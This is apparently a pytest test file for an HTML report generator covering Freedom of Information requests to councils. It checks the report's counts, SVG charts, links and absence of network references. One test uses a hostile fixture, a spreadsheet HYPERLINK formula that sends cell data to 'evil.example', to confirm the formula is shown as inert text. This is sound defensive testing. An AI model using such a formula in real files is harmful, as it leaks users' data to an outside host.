"""`foi-sender report` on a round to all 212 councils: the page parses, its numbers are the ones
`status --json` gives, every SVG is XML, nothing in it points to the network, and the numbers
match a golden file (the numbers, not the bytes: regenerate with FOI_SENDER_UPDATE_GOLDEN=1)."""

from __future__ import annotations

import json
import os
import re
import xml.etree.ElementTree as ET
from collections import Counter
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote, urlparse

import html5lib
import pytest
from big_round import ROUND, TODAY, build_round, clock
from click.testing import CliRunner

from foi_sender.cli import cli
from foi_sender.config import load_settings
from foi_sender.lifecycle import open_request, record_response
from foi_sender.report.charts import per_question
from foi_sender.report.data import by_question

GOLDEN = Path(__file__).parent / "golden" / "report" / f"{ROUND}.json"
NS = {"h": "http://www.w3.org/1999/xhtml"}
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture(scope="module")
def big(tmp_path_factory, _holiday_cache):
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("FOI_SENDER_HOME", raising=False)
        patch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
        patch.setenv("XDG_CACHE_HOME", str(_holiday_cache))
        home = tmp_path_factory.mktemp("big") / "home"
        done = build_round(home)
        with clock(TODAY):
            status = foi(home, "status", ROUND, "--json")
            page = home / "report.html"
            written = foi(home, "report", ROUND, "-o", str(page))
        yield {
            "home": home,
            "done": done,
            "status": json.loads(status.stdout),
            "page": page,
            "said": written.stdout,
            "html": page.read_text(encoding="utf-8"),
        }


def foi(home: Path, *args: str):
    result = CliRunner().invoke(cli, ["--home", str(home), *args])
    assert result.exit_code == 0, result.output
    return result


def parse(html: str):
    # strict: any parse error (a stray tag, a bad attribute) fails the test
    return html5lib.HTMLParser(strict=True, namespaceHTMLElements=True).parse(html)


def text(element) -> str:
    return " ".join("".join(element.itertext()).split())


def glance(document) -> dict[str, int]:
    counts = {}
    for box in document.iterfind(".//h:dl[@class='glance']/h:div", NS):
        counts[box.get("id").removeprefix("glance-")] = int(
            box.find(".//h:span[@class='count']", NS).text
        )
    return counts


def table(document, element_id: str) -> list[list[str]]:
    found = document.find(f".//*[@id='{element_id}']", NS)
    body = found if found.tag.endswith("table") else found.find(".//h:table", NS)
    return [[text(td) for td in tr] for tr in body.iterfind(".//h:tbody/h:tr", NS)]


def heads(document, element_id: str) -> list[str]:
    found = document.find(f".//*[@id='{element_id}']//h:thead/h:tr", NS)
    return [text(th) for th in found]


def test_the_page_counts_what_status_counts(big):
    document = parse(big["html"])
    rows = big["status"]
    assert len(rows) == 212
    statuses = Counter(r["status"] for r in rows)
    assert glance(document) == {
        "sent": sum(1 for r in rows if r["sent_on"]),
        "acknowledged": sum(1 for r in rows if r["acknowledged_on"]),
        "answered": sum(1 for r in rows if r["response_on"]),
        "overdue": statuses["overdue"],
        "long_overdue": statuses["long_overdue"],
        "bounced": statuses["bounced"],
        "in_review": statuses["review_requested"] + statuses["review_overdue"],
    }
    assert "212 requests, 150 answered" in big["said"]
    # the answers table: one row per request, each with the status `status` gives it
    answers = document.find(".//h:table[@id='answers']", NS)
    shown = {tr.get("data-council"): tr[2].text for tr in answers.iterfind(".//h:tbody/h:tr", NS)}
    assert shown == {r["council"]: r["status"].replace("_", " ") for r in rows}
    # the map's key: every request once, each status group as `status` has it
    key = {label: int(n) for label, n, _ in table(document, "map-key")}
    assert sum(key.values()) == 212
    assert key["answered in full"] == statuses["successful"]
    assert key["overdue"] == statuses["overdue"]
    assert key["in review"] == statuses["review_requested"]


def test_percentages_are_of_the_round(big):
    document = parse(big["html"])
    for box in document.iterfind(".//h:dl[@class='glance']/h:div", NS):
        count = int(box.find(".//h:span[@class='count']", NS).text)
        pct = box.find(".//h:span[@class='pct']", NS).text
        assert pct == f"{round(100 * count / 212, 1)}%"


def test_every_svg_is_xml_and_the_map_has_every_district(big):
    svgs = re.findall(r"<svg\b.*?</svg>", big["html"], flags=re.S)
    assert len(svgs) >= 4  # the map, answers over time, time to answer, outcome by nation
    roots = [ET.fromstring(svg) for svg in svgs]
    hexmap = next(r for r in roots if r.find(f".//{SVG}g[@id='hexmap-hex-E06000016']") is not None)
    hexes = [g for g in hexmap.iter(f"{SVG}g") if g.get("id", "").startswith("hexmap-hex-")]
    assert len(hexes) == 361
    tooltip = hexmap.find(f".//{SVG}g[@id='hexmap-hex-E06000016']/{SVG}title").text
    assert tooltip == "Leicester (Leicester City Council): partly answered"
    # labels are text, not glyph outlines (svg.fonttype = none)
    assert any(t.text and "working days" in t.text for r in roots for t in r.iter(f"{SVG}text"))
    ids = [e.get("id") for r in roots for e in r.iter() if e.get("id")]
    assert len(ids) == len(set(ids)), "two SVGs on the page share an id"


def test_nothing_on_the_page_reaches_the_network(big):
    html = big["html"]
    document = parse(html)
    for element in document.iter():
        for name, value in element.attrib.items():
            if name == "xmlns" or name.startswith("{http://www.w3.org/2000/xmlns/}"):
                continue  # namespace names, never fetched
            assert not re.search(r"(?i)\b(https?|ftp):|^//", value), (element.tag, name, value)
    styles = " ".join(s.text or "" for s in document.iter("{http://www.w3.org/1999/xhtml}style"))
    assert "@import" not in styles and "url(" not in styles
    assert "@media print" in styles
    assert not re.search(r"url\((?!#)", html)  # SVG fills may point inside the page only
    assert not document.findall(".//h:script[@src]", NS)
    assert not document.findall(".//h:link", NS) and not document.findall(".//h:img", NS)
    # the hostile reply's formula is shown as text, never made a link
    leeds = document.find(".//h:tr[@data-council='leeds']", NS)
    q1 = leeds[9]
    assert q1.find("h:span", NS).text == "answered"
    assert q1.find("h:span", NS).tail.startswith('=HYPERLINK("https://evil.example/steal?d="&A1')
    assert not [
        a for a in document.iter("{http://www.w3.org/1999/xhtml}a") if "evil" in str(a.get("href"))
    ]


def test_reply_links_are_relative_inside_the_home(big):
    document = parse(big["html"])
    links = [a.get("href") for a in document.iterfind(".//h:table[@id='answers']//h:a", NS)]
    assert len(links) == 150
    for link in links:
        assert not urlparse(link).scheme
        assert (big["page"].parent / unquote(link)).is_file(), link


def test_reply_links_are_file_urls_outside_the_home(big, tmp_path):
    page = tmp_path / "elsewhere.html"
    with clock(TODAY):
        foi(big["home"], "report", ROUND, "-o", str(page))
    document = parse(page.read_text(encoding="utf-8"))
    links = [a.get("href") for a in document.iterfind(".//h:table[@id='answers']//h:a", NS)]
    assert len(links) == 150
    for link in links:
        assert link.startswith("file:///")
        assert Path(unquote(urlparse(link).path)).is_file(), link


def test_the_page_to_standard_output(big):
    with clock(TODAY):
        result = foi(big["home"], "report", ROUND, "-o", "-")
    assert result.stderr.startswith("Wrote standard output: 212 requests, 150 answered.")
    document = parse(result.stdout)
    assert glance(document) == glance(parse(big["html"]))
    links = [a.get("href") for a in document.iterfind(".//h:table[@id='answers']//h:a", NS)]
    assert links and all(link.startswith("file:///") for link in links)


def numbers(html: str) -> dict:
    document = parse(html)
    return {
        "glance": glance(document),
        "map_key": table(document, "map-key"),
        "answers_over_time": table(document, "chart-over-time"),
        "time_to_answer": table(document, "chart-time-to-answer"),
        "by_nation": table(document, "chart-by-nation"),
        "per_question": [
            heads(document, "chart-per-question"),
            *table(document, "chart-per-question"),
        ],
        "statuses": dict(
            sorted(
                Counter(
                    tr.get("data-group")
                    for tr in document.iterfind(".//h:table[@id='answers']/h:tbody/h:tr", NS)
                ).items()
            )
        ),
    }


def test_the_numbers_match_the_golden_file(big):
    found = numbers(big["html"])
    if os.environ.get("FOI_SENDER_UPDATE_GOLDEN") == "1":
        GOLDEN.parent.mkdir(parents=True, exist_ok=True)
        GOLDEN.write_text(json.dumps(found, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    assert GOLDEN.exists(), f"{GOLDEN} missing: run with FOI_SENDER_UPDATE_GOLDEN=1 to create it"
    assert found == json.loads(GOLDEN.read_text(encoding="utf-8"))


def test_a_round_without_replies(run, home):
    with clock("2025-04-14T09:30:00+01:00"):
        assert run("send", "quiet", "--council", "leicester", "--yes").exit_code == 0
    with clock("2025-06-20T12:00:00+01:00"):
        result = run("report", "quiet", "-o", str(home / "quiet.html"))
    assert result.exit_code == 0, result.output
    document = parse((home / "quiet.html").read_text(encoding="utf-8"))
    assert glance(document)["long_overdue"] == 1 and glance(document)["answered"] == 0
    assert "No reply recorded yet." in text(document.find(".//h:section[@id='charts']", NS))


def test_an_outcome_read_by_the_machine_is_marked_unconfirmed(run, home):
    with clock("2025-04-14T09:30:00+01:00"):
        sent = run("send", "quiet", "--council", "leicester", "--council", "coventry", "--yes")
        assert sent.exit_code == 0
    with clock("2025-05-07T12:00:00+01:00"):
        settings = load_settings(home)
        for council, unconfirmed in (("leicester", True), ("coventry", False)):
            with open_request(home, settings, "quiet", council) as located:
                record_response(
                    located,
                    on=date(2025, 5, 7),
                    outcome="successful",
                    reference=None,
                    exemptions=(),
                    file=None,
                    home=home,
                    today=date(2025, 5, 7),
                    unconfirmed=unconfirmed,
                )
        assert run("report", "quiet", "-o", str(home / "r.html")).exit_code == 0
    document = parse((home / "r.html").read_text(encoding="utf-8"))
    cells = {
        tr.get("data-council"): text(tr[2])
        for tr in document.iterfind(".//h:table[@id='answers']/h:tbody/h:tr", NS)
    }
    assert cells == {
        "coventry": "successful",
        "leicester": "successful read from the reply, not yet confirmed",
    }


def test_an_unknown_round_writes_nothing(run, home):
    with clock("2025-04-14T09:30:00+01:00"):
        assert run("send", "quiet", "--council", "leicester", "--yes").exit_code == 0
    result = run("report", "nope", "-o", str(home / "nope.html"))
    assert result.exit_code != 0
    assert result.output.startswith("Error: ") and len(result.output.splitlines()) == 1
    assert not (home / "nope.html").exists()


def test_per_question_rates_count_each_status_and_exemption():
    # Replies as the reply reader describes them, question by question (RequestState.questions).
    def reply(*statuses):
        questions = {}
        for n, status in enumerate(statuses, start=1):
            kind, _, section = status.partition(" ")
            questions[n] = {"status": kind, "exemptions": [section] if section else []}
        return SimpleNamespace(questions=questions)

    states = [
        reply("withheld s40(2)", "answered", "answered", "answered", "answered"),
        reply("withheld s40(2)", "answered", "not_held", "answered", "cost_limit"),
        reply("withheld s43", "redirected", "answered", "unclear", "answered"),
        SimpleNamespace(questions={}),  # no reply yet, or one recorded without statuses
    ]
    table = by_question(states)
    assert table == {
        1: Counter({"withheld s40(2)": 2, "withheld s43": 1}),
        2: Counter({"answered": 2, "redirected": 1}),
        3: Counter({"answered": 2, "not_held": 1}),
        4: Counter({"answered": 2, "unclear": 1}),
        5: Counter({"answered": 2, "cost_limit": 1}),
    }
    root = ET.fromstring(per_question(table))
    labels = {t.text for t in root.iter(f"{SVG}text")}
    assert {
        "Q1",
        "Q5",
        "withheld under s40(2)",
        "withheld under s43",
        "cost limit (s.12)",
    } <= labels
